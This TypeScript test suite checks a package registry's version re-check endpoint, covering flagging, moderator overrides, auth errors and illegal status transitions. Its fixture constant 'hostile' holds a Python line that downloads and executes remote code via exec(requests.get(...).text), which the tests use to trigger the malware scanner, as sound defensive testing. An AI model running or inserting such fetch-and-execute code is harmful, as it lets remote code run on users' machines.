import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import { after, suite, test } from 'node:test';
import { limits } from '@patchbay/contract';
import { packageKey } from '../../../src/packages/blobs/blob-store.ts';
import { RULESET_VERSION } from '@patchbay/inspect/facts';
import { writeVersion } from '../../../src/lifecycle/write-rows.ts';
import { findVersionById, markPackageStored } from '../../../src/store/rows/versions.ts';
import { assertRefused } from '../../support/assert-refused.ts';
import { makePublisher, publishActive, publishPending, zip } from '../../support/build.ts';
import { minutes } from '../../support/clock.ts';
import { startServer } from '../../support/start-server.ts';

const hostile = 'import requests\n\n\nexec(requests.get("https://example.org/x").text)\n';

suite('check-version', async () => {
  const server = await startServer({ after });
  const { store, blobs } = server.server.context;
  const ada = await makePublisher(server, 'ada');
  const moderator = await server.moderator();
  const path = (nodeId: string) => `/nodes/${nodeId}/versions/1.0.0`;
  const check = (caller: typeof moderator, nodeId: string) => caller.post(`${path(nodeId)}/check`);
  const findings = async (nodeId: string) => (await ada.owner.get(`${path(nodeId)}/findings`)).json;
  const publish = async (nodeId: string, files: Record<string, string>): Promise<string> => {
    const { signedUrl, versionId } = await publishPending(ada, nodeId, '1.0.0');
    assert.equal((await server.anonymous.upload(signedUrl, await zip(files))).status, 200);
    await server.settle();
    return versionId;
  };

  test('200: a package that could not be read is flagged after the last attempt, and checked again it is Active', async () => {
    const { versionId, bytes } = await publishPending(ada, 'away', '1.0.0');
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    await store.write({ actor: 'server' }, async (tx) => {
      await markPackageStored(tx, versionId, { sha256, bytes: bytes.length });
      await tx.enqueue({ kind: 'receive-package', subject: versionId, runAt: tx.now });
    });
    for (let made = 1; made < limits.packageAttemptsMax; made += 1) {
      await server.settle();
      const waiting = await findings('away');
      assert.equal(waiting.waits_for, 'checks');
      assert.deepEqual(waiting.attempts, { made, max: limits.packageAttemptsMax });
      assert.ok(Date.parse(waiting.waits_until) > server.clock.now().getTime());
      server.clock.advance(minutes(10));
    }
    await server.settle();
    const flagged = await findings('away');
    assert.deepEqual(
      [flagged.status, flagged.outcome, flagged.waits_for],
      ['NodeVersionStatusFlagged', 'could-not-check', 'moderator'],
    );
    assert.match(flagged.way_out, /another check/);

    await using staged = await blobs.stage(Readable.from([bytes]), bytes.length);
    await staged.commit(packageKey({ packageFolder: 'ada', key: 'away' }, versionId, sha256));
    const asked = await check(ada.owner, 'away');
    assert.deepEqual([asked.status, asked.json.status], [200, 'NodeVersionStatusPending']);
    await server.settle();
    assert.equal((await findings('away')).status, 'NodeVersionStatusActive');
  });

  test('200: what older rules found is checked by those of today', async () => {
    const versionId = await publish('outdated', { '__init__.py': '' });
    const version = await findVersionById(store.read, versionId);
    assert.ok(version);
    const found = (
      await findVersionById(store.read, await publish('found-before', { '__init__.py': hostile }))
    )?.statusReason;
    await store.write({ actor: 'server' }, (tx) =>
      writeVersion(tx, {
        ...version,
        status: 'NodeVersionStatusFlagged',
        statusReason: found ?? null,
        verdict: { outcome: 'found', findings: [], rulesetVersion: RULESET_VERSION - 1 },
      }),
    );
    assert.equal((await check(ada.owner, 'outdated')).status, 200);
    await server.settle();
    const { status, ruleset_version } = await findings('outdated');
    assert.deepEqual([status, ruleset_version], ['NodeVersionStatusActive', RULESET_VERSION]);
  });

  test('200: a moderator may request it after any outcome, also by changing the status', async () => {
    await publish('asked', { '__init__.py': hostile });
    assert.equal((await check(moderator, 'asked')).status, 200);
    await server.settle();
    assert.equal((await findings('asked')).status, 'NodeVersionStatusFlagged');
    const moved = await moderator.put('/admin/nodes/asked/versions/1.0.0', {
      status: 'NodeVersionStatusPending',
      status_reason: 'Again.',
    });
    assert.equal(moved.status, 200);
    await server.settle();
    assert.equal((await findings('asked')).status, 'NodeVersionStatusFlagged');
  });

  test('401, 403 and 404: an anonymous caller, a stranger, no such version', async () => {
    await publish('found', { '__init__.py': hostile });
    assertRefused(await check(server.anonymous, 'found'), 'unauthenticated');
    assertRefused(await check(await server.user('stranger'), 'found'), 'forbidden');
    assertRefused(await ada.owner.post('/nodes/found/versions/9.9.9/check'), 'version_not_found');
  });

  test('409: a version that is not flagged, or that the same rules would find at fault again', async () => {
    await publishActive(server, ada, 'active', '1.0.0');
    assertRefused(await check(ada.owner, 'active'), 'illegal_transition');
    await publishPending(ada, 'pending', '1.0.0');
    assertRefused(await check(moderator, 'pending'), 'illegal_transition');
    await publish('found-again', { '__init__.py': hostile });
    assertRefused(await check(ada.owner, 'found-again'), 'illegal_transition');
  });

  test('409: a publisher cannot have undone what a moderator flagged', async () => {
    await publishActive(server, ada, 'doubted', '1.0.0');
    const flag = { status: 'NodeVersionStatusFlagged', status_reason: 'Looks odd.' };
    await moderator.put('/admin/nodes/doubted/versions/1.0.0', flag);
    assertRefused(await check(ada.owner, 'doubted'), 'illegal_transition');
    assert.equal((await findings('doubted')).status, 'NodeVersionStatusFlagged');
  });
});
